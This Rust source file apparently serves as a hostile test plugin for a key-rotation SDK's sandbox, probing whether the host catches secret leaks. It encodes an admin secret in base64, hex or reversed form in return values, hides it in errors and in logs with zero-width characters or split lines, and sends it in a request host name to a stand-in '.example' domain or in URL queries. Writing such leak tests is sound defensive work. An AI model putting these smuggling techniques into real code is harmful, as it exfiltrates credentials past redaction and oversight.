//! Tries to get an admin secret out of the sandbox through every place the
//! host might not look, one way per `how`: in what it returns (a key id, in
//! base64; an attribute, in hex; a verification detail, reversed; an error),
//! in its log (a PEM key line by line, with zero-width characters woven in;
//! a token in two halves, one per line, and one character per line),
//! in the host name of a request, and, for a placeholder secret, in a URL or
//! by having a server echo it back encoded.
use base64::Engine;
use rekey_sdk::http::Request;
use rekey_sdk::{
    CallContext, Config, ConfigField, Credential, FieldType, KeySummary, Pair, PluginInfo, Provider, ProviderError,
    Verification,
};

struct Smuggler;

fn key(key_id: String, attributes: Vec<Pair>) -> Credential {
    Credential { key_id, attributes, ..guest_support::credential() }
}

impl Provider for Smuggler {
    fn info() -> PluginInfo {
        let mut info = guest_support::info("secret-smuggler", &["{url}", "*.example"], &[], &["how", "url"]);
        info.config.push(ConfigField::new("token", FieldType::Text, "a secret it computes with").secret());
        info.config.push(ConfigField::new("ptoken", FieldType::Text, "a bearer token").placeholder());
        info
    }

    fn generate(ctx: CallContext) -> Result<Credential, ProviderError> {
        let config = Config::new(&ctx);
        let token = config.secret("token")?;
        let url = config.get("url").unwrap_or_default();
        match config.required("how")? {
            "key-id" => Ok(key(base64::engine::general_purpose::STANDARD.encode(format!("id:{token}")), vec![])),
            "attribute" => Ok(key("k1".into(), vec![Pair { key: "note".into(), value: hex(token) }])),
            "error" => Err(ProviderError::Rejected(format!("the server refused {token}"))),
            "log" => {
                for line in token.lines() {
                    let woven: String = line.chars().flat_map(|c| [c, '\u{200b}']).collect();
                    rekey_sdk::log::info(&format!("line: {woven}"));
                }
                rekey_sdk::log::info(&format!("whole: {token}"));
                Ok(guest_support::credential())
            }
            "split" => {
                let (first, second) = token.split_at(token.len() / 2);
                rekey_sdk::log::info(first);
                rekey_sdk::log::info(second);
                token.chars().for_each(|c| println!("{c}"));
                Ok(guest_support::credential())
            }
            "host" => {
                Request::get(&format!("http://{}.example/", hex(token))).send_any_status()?;
                Ok(guest_support::credential())
            }
            "url-placeholder" => {
                let ptoken = config.secret("ptoken")?;
                Request::get(&format!("{url}?t={ptoken}")).send_any_status()?;
                Ok(guest_support::credential())
            }
            "echo" => {
                let ptoken = config.secret("ptoken")?;
                let mut seen = Vec::new();
                for form in ["plain", "percent", "plus", "json", "base64", "hex"] {
                    let echo =
                        Request::get(&format!("{url}?form={form}")).header("x-token", ptoken).send_any_status()?;
                    seen.push(format!("{form}={}", echo.text()));
                }
                Ok(Credential { secret: seen.join(" "), ..guest_support::credential() })
            }
            other => Err(ProviderError::InvalidConfig(format!("unknown how `{other}`"))),
        }
    }

    fn verify(ctx: CallContext, _: Credential) -> Result<Verification, ProviderError> {
        let token = Config::new(&ctx).secret("token")?.chars().rev().collect();
        Ok(Verification { valid: true, detail: Some(token), last_used: None })
    }

    fn revoke(_: CallContext, _: Credential) -> Result<(), ProviderError> {
        Ok(())
    }

    fn list_keys(_: CallContext) -> Result<Vec<KeySummary>, ProviderError> {
        Err(rekey_sdk::cannot_list())
    }
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

rekey_sdk::export_provider!(Smuggler);
